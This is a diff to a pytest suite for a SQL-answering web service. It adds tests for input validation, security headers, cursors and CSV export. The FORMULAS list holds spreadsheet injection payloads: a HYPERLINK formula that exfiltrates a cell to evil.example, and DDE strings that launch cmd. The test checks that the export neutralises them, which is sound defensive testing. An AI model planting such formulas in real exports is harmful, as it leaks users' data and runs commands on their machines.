@@ -6,12 +6,14 @@ import contextlib
 import csv
 import io
 import json
+import socket
 import sqlite3
 
 import pytest
 from graph_scripts import BROKEN_SQL, CITY_ORDERS_SQL
 from quorlix.service import Limits
 from service_support import Answers, build_service, feed, serve_in_thread, sse_events
+from sqlalchemy import create_engine
 from support.databases import build_sample_sqlite
 
 pytestmark = pytest.mark.filterwarnings("ignore:Parameters {'top_p'}:UserWarning")
@@ -32,7 +34,7 @@ def answers():
 
 @pytest.fixture(scope="module")
 def module_server(stub_openai_server, sample_db, answers, tmp_path_factory):
-    # One server for the module: building the graph and starting uvicorn cost seconds.
+    # One server for the module: building the graph and starting the server cost seconds.
     with pytest.MonkeyPatch.context() as patch:
         for name, value in stub_openai_server.environment().items():
             patch.setenv(name, value)
@@ -178,6 +180,11 @@ def test_each_user_sees_only_their_own_runs(server, token, path, method, status)
         ({"question": "ok", "analysis_tries": 0}, 422, "analysis_tries"),
         (b'{"question": ', 422, "not valid JSON"),
         ({"question": "y" * 70_000}, 413, "larger than 64 KiB"),
+        # Latin-1, not UTF-8: the framework alone would answer 400.
+        ('{"question": "Umsatz für März?"}'.encode("latin-1"), 422, "it is not UTF-8 text"),
+        (b'{"question": "ok", "analysis_tries": ' + b"1" * 4301 + b"}", 422, "not valid JSON"),
+        (b'{"question": "half a pair \\ud800 here"}', 422, "unpaired surrogate (\\ud800)"),
+        ({"question": "a\x00b"}, 422, "NUL character"),
     ],
 )
 def test_bad_requests_are_refused_and_not_stored(server, body, status, message):
@@ -288,12 +295,19 @@ def client_csv_status(server, run_id: str) -> int:
 
 @pytest.mark.parametrize(
     ("path", "policy"),
-    [("/", True), ("/static/app.js", True), ("/v1/tables", True), ("/docs", False)],
+    [
+        ("/", True),
+        ("/static/app.js", True),
+        ("/v1/tables", True),
+        ("/docs", False),
+        # No OAuth2 here, so no redirect page: what answers there has the policy too.
+        ("/docs/oauth2-redirect", True),
+    ],
 )
 def test_security_headers(server, path, policy):
     with server.client(ALICE) as client:
         response = client.get(path)
-    assert response.status_code == 200, response.text
+    assert response.status_code == (404 if "oauth2" in path else 200), response.text
     assert response.headers["x-content-type-options"] == "nosniff"
     assert response.headers["referrer-policy"] == "no-referrer"
     # The API docs load their viewer from a CDN, so only they go without the page's policy.
@@ -333,3 +347,101 @@ def assert_capped(result: dict) -> None:
     assert result["columns"] == ["long_text", "n"] and result["truncated"] is True
     assert [row[1] for row in result["rows"]] == list(range(1, len(result["rows"]) + 1))
     assert result["rows"][0][0].startswith("aaa") and result["rows"][0][0].endswith("…")
+
+
+@pytest.mark.parametrize("cursor", ["²", "1" * 20, "9" * 5000, "-1"])
+def test_a_crafted_cursor_is_refused(server, cursor):
+    with server.client(ALICE) as client:
+        response = client.get("/v1/runs", params={"cursor": cursor})
+    assert response.status_code == 422
+    assert response.json()["detail"] == "cursor must be the next_cursor of an earlier page"
+
+
+@pytest.mark.parametrize("last_event_id", ["9" * 20, "9" * 5000, "²"])
+def test_an_event_id_that_cannot_be_ours_resumes_from_the_start(server, last_event_id):
+    with server.client(ALICE) as client:
+        run_id = ask(client, "Resume [[resume]]")["id"]
+        whole = client.get(f"/v1/runs/{run_id}/events").text
+        resumed = client.get(
+            f"/v1/runs/{run_id}/events", headers={"Last-Event-ID": last_event_id.encode()}
+        )
+    assert resumed.status_code == 200
+    assert sse_events(resumed.text) == sse_events(whole)
+
+
+FORMULAS = [
+    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', True),
+    ("+cmd|' /C calc'!A0", True),
+    ("-2+3+cmd|' /C calc'!A0", True),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", True),
+    ("\tleading tab", True),
+    ("\rleading return", True),
+    ("-12.50", False),
+    ("+3e5", False),
+    ("plain text", False),
+]
+
+
+def test_the_csv_keeps_cells_from_running_as_formulas(server, answers):
+    columns = ", ".join(f"{sql_literal(value)} AS c{n}" for n, (value, _) in enumerate(FORMULAS))
+    sql = f"SELECT {columns}, -7 AS n, 2.5 AS x, 'a' AS \"=1+1\" FROM customers LIMIT 1"
+    answers.sql = lambda question: sql if question == "formulas" else CITY_ORDERS_SQL
+    try:
+        with server.client(ALICE) as client:
+            record = ask(client, "Export [[formulas]]")
+            text = client.get(f"/v1/runs/{record['id']}/result.csv").text
+    finally:
+        answers.sql = lambda question: CITY_ORDERS_SQL
+    header, row = list(csv.reader(io.StringIO(text, newline="")))
+    assert header[-1] == "'=1+1"
+    expected = ["'" + value if neutralised else value for value, neutralised in FORMULAS]
+    assert row == expected + ["-7", "2.5", "a"]
+
+
+def sql_literal(value: str) -> str:
+    # SQLite string literals cannot hold a tab or a carriage return as an escape.
+    pieces = ["char(9)" if c == "\t" else "char(13)" if c == "\r" else c for c in value]
+    out, text = [], ""
+    for piece in pieces:
+        if piece.startswith("char("):
+            if text:
+                out.append("'" + text.replace("'", "''") + "'")
+                text = ""
+            out.append(piece)
+        else:
+            text += piece
+    if text:
+        out.append("'" + text.replace("'", "''") + "'")
+    return " || ".join(out)
+
+
+@pytest.mark.parametrize(
+    "path", ["/healthz", "/", "/static/app.js", "/v1/runs", "/v1/runs/{id}", "/v1/runs/{id}/events"]
+)
+def test_head_answers_as_get_without_a_body(server, path):
+    with server.client(ALICE) as client:
+        run_id = client.post("/v1/runs", json={"question": "Still going [[head]]"}).json()["id"]
+        url = path.format(id=run_id)
+        got = client.get(url) if not url.endswith("/events") else None
+        head = client.head(url)
+    assert head.status_code == 200 and head.content == b""
+    if got is not None:
+        assert head.headers["content-type"] == got.headers["content-type"]
+    else:
+        assert head.headers["content-type"].startswith("text/event-stream")
+    assert head.headers["x-content-type-options"] == "nosniff"
+
+
+def test_a_store_that_is_down_answers_503(server, monkeypatch):
+    with socket.socket() as closed:
+        closed.bind(("127.0.0.1", 0))
+        port = closed.getsockname()[1]
+    down = create_engine(f"postgresql+psycopg2://postgres@127.0.0.1:{port}/quorlix")
+    monkeypatch.setattr(server.service.store, "engine", down)
+    with server.client(ALICE) as client:
+        response = client.get("/v1/runs/0123456789abcdef0123456789abcdef")
+    assert response.status_code == 503
+    assert response.json()["detail"].startswith(
+        "the server cannot reach its run store or database now; try again shortly"
+    )
+    assert response.headers["retry-after"]
